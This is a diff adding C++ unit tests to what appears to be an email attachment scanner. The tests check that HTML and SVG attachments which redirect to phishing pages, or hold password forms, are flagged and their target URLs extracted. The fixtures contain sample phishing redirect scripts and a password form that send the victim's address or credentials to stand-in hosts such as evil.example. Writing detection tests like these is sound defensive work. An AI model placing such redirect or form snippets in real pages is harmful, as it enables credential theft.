@@ -1217,6 +1217,56 @@ TEST(InspectHtml, CredentialForms) {
   expect_clean(local);
 }
 
+// The attachment as a link in disguise: it navigates away as it opens. The target, even
+// base64-encoded for atob(), joins the message's URLs; so does a password form's action.
+TEST(InspectHtml, RedirectsAndTheirTargets) {
+  Probe r("<html><script>var e='alice@example.org';\nwindow.location.href = atob(\"" +
+          base64("https://login.evil.example/o365/") + "\") + '#' + e;</script></html>");
+  inspect_html_attachment(r.blob("Remittance.html"), *r.insp);
+  EXPECT_TRUE(r.has("HTML_ATTACH_REDIRECT")) << r.dump();
+  EXPECT_NE(r.detail("HTML_ATTACH_REDIRECT").find("location.href to https://login.evil.example/o365/"),
+            std::string::npos)
+      << r.dump();
+  EXPECT_EQ(r.results().urls, std::vector<std::string>{"https://login.evil.example/o365/"});
+
+  Probe meta("<html><head><meta http-equiv=\"Refresh\" content=\"0; URL='https://evil.example/r?id=7'\"></head></html>");
+  inspect_html_attachment(meta.blob("fax.htm"), *meta.insp);
+  EXPECT_NE(meta.detail("HTML_ATTACH_REDIRECT").find("meta refresh to https://evil.example/r?id=7"), std::string::npos)
+      << meta.dump();
+
+  Probe literal("<script>document.location = \"https://198.51.100.4/x?u=\" + user;</script>");
+  inspect_html_attachment(literal.blob("scan.html"), *literal.insp);
+  EXPECT_EQ(literal.results().urls, std::vector<std::string>{"https://198.51.100.4/x?u="});
+
+  Probe form("<form action=\"https://evil.example/post.php\"><input type=password name=p></form>");
+  inspect_html_attachment(form.blob("login.html"), *form.insp);
+  EXPECT_FALSE(form.has("HTML_ATTACH_REDIRECT"));
+  EXPECT_EQ(form.results().urls, std::vector<std::string>{"https://evil.example/post.php"});
+
+  // Scripts that do not navigate, and plain links, add nothing.
+  Probe calm("<script>function total(){return 1+1;}</script><a href=\"https://example.com/\">home</a>");
+  inspect_html_attachment(calm.blob("report.html"), *calm.insp);
+  EXPECT_FALSE(calm.has("HTML_ATTACH_REDIRECT"));
+  EXPECT_TRUE(calm.results().urls.empty());
+}
+
+// SVG files start with an XML declaration, comments and a DOCTYPE; the browser still runs
+// their scripts, so the chain must see HTML-like content behind that prolog.
+TEST(InspectHtml, SvgBehindAnXmlPrologIsInspected) {
+  Probe r("\xEF\xBB\xBF<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n<!-- Generator: x -->\n"
+          "<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" "
+          "[ <!ENTITY a \"b\"> ]>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script><![CDATA[ "
+          "top.location.replace('https://evil.example/vm') ]]></script></svg>");
+  r.insp->inspect_blob(r.blob("VM_0412.svg"));
+  EXPECT_TRUE(r.has("HTML_ATTACH_SCRIPT")) << r.dump();
+  EXPECT_TRUE(r.has("HTML_ATTACH_REDIRECT")) << r.dump();
+  EXPECT_EQ(r.results().urls, std::vector<std::string>{"https://evil.example/vm"});
+  // A plain SVG drawing is not active content.
+  Probe logo("<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\"/></svg>");
+  logo.insp->inspect_blob(logo.blob("logo.svg"));
+  EXPECT_FALSE(logo.has("HTML_ATTACH_SCRIPT")) << logo.dump();
+}
+
 TEST(InspectHtml, SmugglingSplitBase64) {
   const std::string b64 = base64(fake_exe(3000));
   std::string pieces;
